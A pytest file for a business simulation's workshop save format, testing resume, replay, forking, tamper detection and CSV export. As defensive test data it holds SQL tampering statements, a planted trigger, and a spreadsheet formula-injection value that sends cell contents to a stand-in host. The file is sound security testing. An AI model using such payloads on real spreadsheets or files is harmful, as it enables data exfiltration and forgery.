"""Workshop saves (schema v2): a facilitated session stored in a normal save, resumed exactly,
replayed and forked like any save; its tables are hostile until checked like every other."""

import shutil

import numpy as np
import pytest
from save_helpers import GOLDEN, digest, sql
from test_hostile import PLANTS, rejected

from engine.errors import SaveLoadError
from engine.saves import (autosave, autosave_workshop, export_csv, fork_game, load_game, load_outcomes, load_workshop,
                          parse_change, read_metadata, save_game, save_workshop, verify_replay)
from engine.saves.schema import COLUMNS
from engine.saves.workshop_rows import workshop_hash
from engine.workshop import WorkshopSession, WorkshopSettings

READERS = (read_metadata, load_outcomes, load_game, load_workshop)


@pytest.fixture
def wgolden(tmp_path):
    """A private copy of the committed v2 golden (a workshop with an open round)."""
    path = tmp_path / "workshop.closedloop"
    shutil.copyfile(GOLDEN / "v2.closedloop", path)
    return path


def resign_workshop(path) -> None:
    """Recompute the workshop hash after a change (a forger who knows the format)."""
    cols = COLUMNS["workshop"]
    row = dict(zip(cols, sql(path, f"SELECT {', '.join(cols)} FROM workshop")[0]))
    rounds = sql(path, "SELECT t, defaulted FROM rounds ORDER BY t")
    predictions = sql(path, f"SELECT {', '.join(COLUMNS['predictions'])} FROM predictions")
    try:
        digest_ = workshop_hash(row, rounds, predictions)
    except (TypeError, ValueError):          # a blob or an infinity: refused before anything hashes it
        return
    sql(path, "UPDATE workshop SET workshop_hash = ?", params=(digest_,))


def play_round(session, now, skip=()):
    for team in session.teams:
        if team not in skip:
            session.submit(team, session.suggestion_for(team), now=now)
    session.lock(now)
    session.resolve(now)


def test_workshop_save_resumes_exactly_and_continues_identically(scenario, tmp_path):
    settings = WorkshopSettings(teams=("xiaomi", "nio", "li-auto"), seed=3, quarters=6, round_seconds=900,
                                team_names={"nio": "Blue"}, missing="carry")
    session = WorkshopSession(scenario, settings, now=100.0)
    path = tmp_path / "w.closedloop"
    for t in range(2):
        session.predict("nio", {"deliveries": 40000, "operating_profit_cny": -2e9, "rationale": "ramp"}, now=110.0)
        play_round(session, 120.0 + t, skip=("li-auto",) if t else ())
        session.open_next(now=200.0 + t)
        autosave_workshop(session, path)
    session.submit("xiaomi", session.suggestion_for("xiaomi"), now=300.0)
    session.inject({"id": "custom-flood", "headline": {"en": "Floods", "zh": "洪水"}, "effects": {"demand": -0.1}},
                   now=301.0)
    session.lock(302.0)
    autosave_workshop(session, path)                          # no new quarter: the round state alone
    meta = read_metadata(path)
    assert meta.workshop and meta.schema_version == 2 and meta.quarters_played == 2
    resumed = load_workshop(path)
    assert resumed.to_dict() == session.to_dict()
    assert resumed.game.lineage["save_id"] == session.game.lineage["save_id"]
    for s in (session, resumed):
        s.resolve(400.0)
    assert resumed.game.records[-1].state_hash == session.game.records[-1].state_hash
    autosave_workshop(resumed, path)                          # the resumed session keeps the same file
    assert load_workshop(path).to_dict() == resumed.to_dict() and verify_replay(path).ok


def test_workshop_reopened_quarter_replaces_the_stored_one(scenario, tmp_path):
    session = WorkshopSession(scenario, WorkshopSettings(teams=("xiaomi",), seed=9))
    path = tmp_path / "w.closedloop"
    play_round(session, 1.0)
    first = session.game.records[-1].state_hash
    autosave_workshop(session, path)
    session.reopen(discard_results=True)
    session.submit("xiaomi", {"marketing_budget": 2e9})
    session.lock()
    session.resolve()
    autosave_workshop(session, path)
    loaded = load_workshop(path)
    assert loaded.game.records[-1].state_hash == session.game.records[-1].state_hash != first
    assert [e["action"] for e in loaded.log] == ["lock", "resolve", "reopen", "lock", "resolve"]


def test_workshop_golden_v2_resumes_and_plays_on(wgolden):
    session = load_workshop(wgolden)
    assert session.phase == "open" and session.quarter == "2025Q1" and list(session.pending) == ["byd"]
    assert session.defaulted == [(), ("byd",), (), ()] and session.injections == [("recall", "tesla")]
    assert session.settings.team_names == {"byd": "Team Blue"} and len(session.predictions) == 8
    scores = session.prediction_scores("xiaomi")
    assert scores["mean_score"] is not None and len(scores["quarters"]) == 4
    news = session.team_view("byd")["news"]
    assert any(item["id"] == "custom-port-strike" for item in news)
    before = digest(wgolden)
    session.submit("xiaomi", session.suggestion_for("xiaomi"))
    session.lock()
    session.resolve()
    assert digest(wgolden) == before                          # loading never writes
    autosave_workshop(session, wgolden)
    assert read_metadata(wgolden).quarters_played == 5 and load_workshop(wgolden).phase == "resolved"


def test_a_save_without_a_workshop_is_not_one(tmp_path):
    v1 = tmp_path / "v1.closedloop"
    shutil.copyfile(GOLDEN / "v1.closedloop", v1)
    assert not read_metadata(v1).workshop
    rejected(v1, readers=(load_workshop,), match="not a workshop save")
    game = load_game(v1)
    game.play_quarter({"xiaomi": game.suggest("xiaomi")})
    autosave(game, v1)                                         # upgrades the file to v2, still a plain game
    meta = read_metadata(v1)
    assert meta.schema_version == 2 and not meta.workshop and meta.quarters_played == 5


def test_plain_autosave_refuses_a_workshop_file(wgolden):
    game = load_game(wgolden)
    before = digest(wgolden)
    with pytest.raises(SaveLoadError, match="holds a workshop"):
        autosave(game, wgolden)
    assert digest(wgolden) == before


def test_workshop_save_is_replayed_viewed_and_forked_like_any_save(wgolden, tmp_path):
    assert verify_replay(wgolden).ok
    outcomes = load_outcomes(wgolden)
    assert outcomes.quarters[-1] == "2024Q4" and outcomes.controllers[0]["byd"] == "human"
    assert next(e for e, _ in outcomes.injected[2]).id == "custom-port-strike"
    fork = tmp_path / "fork.closedloop"
    game = load_game(wgolden)
    save_game(fork_game(game, "2024Q3", [parse_change("byd.marketing=2e9", game.scenario)],
                        parent_file=wgolden.name), fork)
    meta = read_metadata(fork)
    assert not meta.workshop and meta.parent_id == read_metadata(wgolden).save_id
    files = export_csv(wgolden, tmp_path / "csv")
    assert any(p.name.endswith("-predictions.csv") for p in files)


def test_save_workshop_writes_a_complete_file(wgolden, tmp_path):
    session = load_workshop(wgolden)
    copy = tmp_path / "copy.closedloop"
    save_workshop(session, copy)
    assert load_workshop(copy).to_dict() == session.to_dict()


# --- hostile workshop tables ------------------------------------------------------------------

WORKSHOP_TAMPER = {
    "phase": "UPDATE workshop SET phase = 'locked'",
    "pending": "UPDATE workshop SET pending = replace(pending, '\"shifts\":', '\"shifts\":1')",
    "deadline": "UPDATE workshop SET deadline = deadline + 3600",
    "log": "UPDATE workshop SET log = '[]'",
    "settings": "UPDATE workshop SET settings = replace(settings, 'Team Blue', 'Team Red')",
    "prediction": "UPDATE predictions SET deliveries = deliveries + 1 WHERE t = 0 AND team = 'xiaomi'",
    "rationale": "UPDATE predictions SET rationale = 'hindsight' WHERE t = 1",
    "defaulted": "UPDATE rounds SET defaulted = '[]' WHERE t = 1",
    "deleted prediction": "DELETE FROM predictions WHERE t = 2 AND team = 'byd'",
}


@pytest.mark.parametrize("what", sorted(WORKSHOP_TAMPER))
def test_workshop_changing_one_stored_value_is_reported(wgolden, what):
    sql(wgolden, WORKSHOP_TAMPER[what])
    rejected(wgolden, readers=(load_outcomes, load_game, load_workshop), match="workshop hash mismatch")


@pytest.mark.parametrize("statement,match", [
    ("UPDATE workshop SET phase = 'paused'", "phase"),
    ("UPDATE workshop SET format = 'other'", "format"),
    ("UPDATE workshop SET version = 2", "workshop format 1"),
    ("UPDATE workshop SET deadline = 9e999", "finite number"),
    ("UPDATE workshop SET deadline = 'soon'", "finite number"),
    ("UPDATE workshop SET quarters_resolved = 3", "quarters_resolved"),
    ("UPDATE workshop SET head_hash = (SELECT content_hash FROM quarters WHERE t = 2)", "head_hash"),
    ("UPDATE workshop SET pending = '{\"byd\": {\"decision\": {\"shifts\": NaN}, \"at\": 1}}'", "NaN"),
    ("UPDATE workshop SET pending = '{\"a\": 1, \"a\": 2}'", "duplicate key"),
    ("UPDATE workshop SET log = ?", "nested deeper"),
    ("UPDATE workshop SET injections = '{}'", "JSON list"),
    ("UPDATE workshop SET settings = X'7B7D'", "expected text"),
    ("UPDATE predictions SET deliveries = 9e999 WHERE t = 0", "finite number"),
    ("UPDATE predictions SET operating_profit_cny = 'lots' WHERE t = 0", "finite number"),
    ("UPDATE predictions SET team = 'ghost' WHERE t = 0 AND team = 'byd'", "not a firm"),
    ("UPDATE predictions SET t = 9 WHERE t = 0 AND team = 'byd'", "whole number 0-4"),
    ("UPDATE rounds SET defaulted = '[\"ghost\"]' WHERE t = 0", "distinct firm ids"),
    ("DELETE FROM rounds WHERE t = 3", "one row per stored quarter"),
])
def test_workshop_resigned_malformed_rows(wgolden, statement, match):
    params = ("[" * 40 + "]" * 40,) if "?" in statement else ()
    sql(wgolden, statement, params=params)
    resign_workshop(wgolden)
    rejected(wgolden, readers=(load_outcomes, load_game, load_workshop), match=match)


@pytest.mark.parametrize("statement,match", [
    ("UPDATE workshop SET pending = replace(pending, '\"byd\":', '\"tesla\":')", "not a team"),
    ("UPDATE workshop SET settings = replace(settings, '\"xiaomi\",\"byd\"', '\"xiaomi\",\"byd\",\"nio\"')",
     "controllers"),
    ("UPDATE workshop SET phase = 'finished'", "phase"),
    ("UPDATE predictions SET team = 'nio' WHERE t = 0 AND team = 'byd'", "not a team"),
    ("UPDATE workshop SET injections = '[{\"event\": \"meteor\", \"target\": null}]'", "meteor"),
])
def test_workshop_resigned_but_invalid_session_cannot_be_resumed(wgolden, statement, match):
    sql(wgolden, statement)
    resign_workshop(wgolden)
    load_outcomes(wgolden)                                      # what was played can still be viewed
    rejected(wgolden, readers=(load_workshop,), match=match)


def test_workshop_rows_without_a_workshop_and_row_limits(wgolden, tmp_path):
    other = tmp_path / "other.closedloop"
    shutil.copyfile(wgolden, other)
    sql(wgolden, "DELETE FROM workshop")
    rejected(wgolden, readers=(load_outcomes, load_game), match="no workshop")
    sql(other, "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 410) "
               "INSERT INTO rounds (t, defaulted) SELECT 100 + i, '[]' FROM n")
    rejected(other, match="too many rows in rounds")


def test_workshop_planted_trigger_is_refused_and_never_fires(wgolden, scenario):
    sql(wgolden, "CREATE TABLE marker (x)",
        "CREATE TRIGGER w1 AFTER UPDATE ON workshop BEGIN INSERT INTO marker VALUES ('fired'); END")
    rejected(wgolden, readers=READERS, match="does not have the schema")
    session = WorkshopSession(scenario, WorkshopSettings(teams=("xiaomi",), seed=1))
    with pytest.raises(SaveLoadError, match="does not have the schema"):
        autosave_workshop(session, wgolden)
    assert sql(wgolden, "SELECT count(*) FROM marker") == [(0,)]


def test_workshop_tables_must_match_the_v2_schema_exactly(wgolden):
    sql(wgolden, *PLANTS["table"], "ALTER TABLE predictions ADD COLUMN secret TEXT")
    rejected(wgolden, readers=READERS, match="does not have the schema")


def test_workshop_luck_versus_skill_scores_every_team(wgolden):
    from engine.saves import play_worlds

    game = load_game(wgolden)
    result = play_worlds(game, worlds=8)
    assert set(result.firm_scores) == {"xiaomi", "byd"} == set(result.actual_firm_scores)
    assert result.firm_scores["xiaomi"].shape == (8,)
    assert list(result.firm_scores["xiaomi"]) == list(result.scores)       # xiaomi is the scenario's player
    i = game.scenario.firm_index("byd")
    assert result.actual_firm_scores["byd"] == float(game.records[-1].report.firm["score"][0, i])


def played_workshop(scenario, path, visibility, quarters=3):
    """A workshop of xiaomi and byd teams played ``quarters`` rounds and saved at ``path``."""
    from engine.workshop import Visibility

    session = WorkshopSession(scenario, WorkshopSettings(teams=("xiaomi", "byd"), seed=3,
                                                         visibility=Visibility(**visibility)), now=0.0)
    for t in range(quarters):
        play_round(session, 10.0 + t)
        session.open_next(now=20.0 + t)
    save_workshop(session, path)
    return session


def test_workshop_replay_team_view_hides_rival_financials_and_history_as_the_workshop_did(scenario, tmp_path):
    path = tmp_path / "closed.closedloop"
    session = played_workshop(scenario, path, {"rival_financials": False, "history": False, "leaderboard": False})
    out = load_outcomes(path)
    assert out.visibility.rival_financials is False
    view = out.team_view("byd")
    x, b = out.firm_ids.index("xiaomi"), out.firm_ids.index("byd")
    for metric in ("operating_profit_cny", "revenue_cny", "cash_cny", "score", "avg_price_cny"):
        assert np.isnan(view.firm[metric][:, x]).all(), metric               # a rival's: hidden
        assert np.isfinite(view.firm[metric][:, b]).all(), metric            # its own: shown
    assert np.isfinite(out.firm["operating_profit_cny"][:, x]).all()         # the facilitator sees all
    deliveries = view.firm["deliveries"][:, x]
    assert np.isnan(deliveries[:2]).all() and deliveries[2] == out.firm["deliveries"][2, x]   # latest only
    assert [set(q["xiaomi"]) for q in view.decisions] == [set(), set(), {"prices", "launches"}]
    earlier = out.team_view("byd", through=1).firm["deliveries"][:, x]
    assert np.isnan(earlier[0]) and earlier[1] == out.firm["deliveries"][1, x]
    lan = session.team_view("byd")["market"]                                 # what the team was sent
    assert len(lan) == 1 and "operating_profit_cny" not in lan[0]["firms"][x]
    assert lan[0]["firms"][x]["deliveries"] == view.firm["deliveries"][2, x]


def test_workshop_replay_team_view_shows_rival_financials_when_the_workshop_did(scenario, tmp_path):
    path = tmp_path / "open.closedloop"
    session = played_workshop(scenario, path, {"rival_financials": True})
    out = load_outcomes(path)
    view = out.team_view("byd")
    x = out.firm_ids.index("xiaomi")
    lan = session.team_view("byd")["market"]
    assert len(lan) == 3
    for metric in ("operating_profit_cny", "revenue_cny", "cash_cny", "deliveries", "score"):
        assert view.firm[metric][:, x].tolist() == out.firm[metric][:, x].tolist(), metric
    for metric in ("operating_profit_cny", "revenue_cny", "cash_cny", "deliveries"):
        assert [q["firms"][x][metric] for q in lan] == view.firm[metric][:, x].tolist(), metric
    assert np.isnan(view.firm["gross_margin"][:, x]).all()                  # still private
    assert set(view.decisions[0]["xiaomi"]) == {"prices", "launches"}        # a rival's budgets never show


def test_single_player_replay_team_view_is_unchanged_by_workshop_visibility(scenario, tmp_path):
    from engine.game import Game

    game = Game.new(scenario, 3)
    for _ in range(2):
        game.play_quarter({})
    path = tmp_path / "solo.closedloop"
    save_game(game, path)
    out = load_outcomes(path)
    assert out.visibility is None
    view = out.team_view("byd")
    x = out.firm_ids.index("xiaomi")
    assert view.firm["operating_profit_cny"][:, x].tolist() == out.firm["operating_profit_cny"][:, x].tolist()
    assert np.isnan(view.firm["cash_cny"][:, x]).all()


def test_workshop_csv_export_keeps_team_text_from_running_as_a_formula(scenario, tmp_path):
    import csv

    rationales = {"xiaomi": '=HYPERLINK("http://x.example/?d="&A1,"click")', "byd": "@SUM(A1:A9)",
                  "nio": "+1+1 we gain", "li-auto": "-1 we lose", "xpeng": "\tindented", "aito": "\rreturn",
                  "tesla": "a = b,\r+c"}                                   # inside: text as it is
    session = WorkshopSession(scenario, WorkshopSettings(teams=tuple(rationales), seed=3), now=0.0)
    for team, text in rationales.items():
        session.predict(team, {"deliveries": 1000, "operating_profit_cny": -2.5e9, "rationale": text}, now=1.0)
    play_round(session, 2.0)
    path = tmp_path / "w.closedloop"
    save_workshop(session, path)
    files = export_csv(path, tmp_path / "csv")
    predictions = next(f for f in files if f.name.endswith("-predictions.csv"))
    with open(predictions, newline="", encoding="utf-8") as handle:
        rows = {r["team"]: r for r in csv.DictReader(handle)}
    for team, text in rationales.items():
        expected = text if team == "tesla" else "'" + text        # a quote in front: shown as text, never run
        assert rows[team]["rationale"] == expected, team
        assert rows[team]["operating_profit_cny"] == "-2500000000.0"   # numbers stay numbers
    for f in files:                                                # no text cell anywhere starts a formula
        with open(f, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)                                # only a number may start with - or +
